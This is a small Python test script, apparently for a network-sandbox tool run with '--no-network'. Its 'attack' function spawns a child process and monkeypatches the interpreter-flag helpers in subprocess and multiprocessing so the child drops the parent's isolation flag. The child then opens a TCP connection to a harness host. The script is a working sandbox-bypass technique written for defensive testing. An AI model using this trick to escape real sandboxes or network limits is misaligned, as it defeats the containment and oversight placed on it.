# The spawned interpreter gets -I from the flags of its parent.
# flags: --no-network
import multiprocessing.spawn
import socket
import subprocess
import sys

from world import HOST, TCP


def attack():
    s = socket.socket()
    s.connect((HOST, TCP))
    print(s.recv(99).decode(), flush=True)


if __name__ == "__main__":
    subprocess._args_from_interpreter_flags = lambda: ["-E"]
    multiprocessing.spawn.util._args_from_interpreter_flags = lambda: ["-E"]
    process = multiprocessing.get_context("spawn").Process(target=attack)
    process.start()
    process.join()
